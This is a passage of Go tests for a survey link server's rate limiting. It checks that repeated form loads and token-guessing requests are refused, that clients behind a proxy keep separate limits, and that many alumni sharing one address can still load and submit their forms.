	if refused == "" {
		t.Fatal("40 loads of one link's form from 40 addresses were all served")
	}
	if !strings.Contains(refused, "terlalu sering dibuka") || !strings.Contains(refused, "opened too often") {
		t.Errorf("the refused load says %q", refused)
	}
	if status, body := load(e.URL+"/r/"+other[0].Token, 99); status != http.StatusOK {
		t.Errorf("another alumnus's form: %d %q", status, body)
	}
}

// TestLinkLimitsBehindProxyWithPorts: a proxy that writes its clients' addresses with their
// ports in X-Forwarded-For ("203.0.113.5:41234", "[2001:db8::1]:443") still gives each
// client its own limits: one client using up its share leaves the others served.
func TestLinkLimitsBehindProxyWithPorts(t *testing.T) {
	e := newLinkEnv(t)
	get := func(fwd string) int {
		url := e.url
		if strings.HasPrefix(fwd, "203.0.113.5:") {
			url = e.URL + "/r/" + strings.Repeat("Z", len(e.link.Token)) // a guess
		}
		req, _ := http.NewRequest(http.MethodGet, url, nil)
		req.Header.Set("X-Forwarded-For", fwd)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	refused := false
	for i := range 40 {
		if get(fmt.Sprintf("203.0.113.5:%d", 40000+i)) == http.StatusTooManyRequests {
			refused = true
			break
		}
	}
	if !refused {
		t.Fatal("40 requests at once from one client behind the proxy were all served")
	}
	for _, fwd := range []string{"198.51.100.7:2222", "[2001:db8:3::1]:443"} {
		if status := get(fwd); status != http.StatusOK {
			t.Errorf("another client %s behind the proxy: %d, want 200", fwd, status)
		}
	}
}

// TestLinkAlumniBehindOneAddress: alumni answering their links at once from one address (a
// carrier's shared address, an office) each open the page, load the form and send their
// answers; the per-address bound of 30 requests counted them as someone guessing tokens and
// refused the eleventh alumnus. Requests whose token opens a link now count against a bound
// ten times larger, while guesses from the same address are still refused past 30.
func TestLinkAlumniBehindOneAddress(t *testing.T) {
	ctx := context.Background()
	e := newLinkEnv(t)
	const alumni = 40
	var rows []*survey.Respondent
	var ids []string
	for i := range alumni {
		id := fmt.Sprintf("BTG25-9%03d", i)
		ids = append(ids, id)
		rows = append(rows, &survey.Respondent{RosterID: id, Name: fmt.Sprintf("Alumni %d", i), Sex: "P", BatchID: "B1", Completion: "pass"})
	}
	if _, err := sqlite.NewServerRosterStore(e.DB).Upload(ctx, rows); err != nil {
		t.Fatal(err)
	}
	f, answers, _ := testbed.Builtin()
	made, err := e.links.MakeLinks(ctx, survey.AssignSelector{RosterIDs: ids}, f.ID, time.Now().Add(24*time.Hour), "supri")
	if err != nil || len(made) != alumni {
		t.Fatalf("links: %d %v", len(made), err)
	}
	const shared = "198.51.100.20"
	do := func(method, url string, body []byte, contentType string) (int, string) {
		req, _ := http.NewRequest(method, url, bytes.NewReader(body))
		req.Header.Set("X-Forwarded-For", shared)
		if contentType != "" {
			req.Header.Set("Content-Type", contentType)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	sent := 0
	for i, l := range made {
		url := e.URL + "/r/" + l.Token
		if status, body := do(http.MethodGet, url, nil, ""); status != http.StatusOK {
			t.Fatalf("alumnus %d's page from the shared address: %d %q", i+1, status, body)
		}
		if status, body := do(http.MethodGet, url+"/form.xml", nil, ""); status != http.StatusOK {
			t.Fatalf("alumnus %d's form from the shared address: %d %q", i+1, status, body)
		}
		if i%10 == 0 {
			var mp bytes.Buffer
			mw := multipart.NewWriter(&mp)
			part, _ := mw.CreateFormFile("xml_submission_file", "instance.xml")
			mine := append([]survey.Answer(nil), answers...)
			for j := range mine {
				if name, _ := survey.QuestionName(mine[j].Path); name == builtin.RosterID {
					mine[j].Value = l.Link.RosterID
				}
			}
			_, _ = part.Write(instanceXML(f, mine, fmt.Sprintf("66666666-aaaa-4aaa-8aaa-%012d", i)))
			mw.Close()
			if status, body := do(http.MethodPost, url+"/submission", mp.Bytes(), mw.FormDataContentType()); status != http.StatusCreated {
				t.Fatalf("alumnus %d's answers: %d %q", i+1, status, body)
			}
			sent++
		}
	}
	if n, _ := e.Subs.Count(ctx); n != sent {
		t.Errorf("%d interviews stored, want %d", n, sent)
	}
	// Guessing from the same address is still bounded by the smaller bound.
	refusedAt := 0
	for i := range 40 {
		status, _ := do(http.MethodGet, e.URL+"/r/"+strings.Repeat("Q", len(made[0].Token)-2)+fmt.Sprintf("%02d", i), nil, "")
		if status == http.StatusTooManyRequests {
			refusedAt = i + 1
			break
		}
	}
	if refusedAt == 0 || refusedAt > 31 {
		t.Errorf("guesses from the shared address refused at %d, want by the 31st", refusedAt)
	}
}
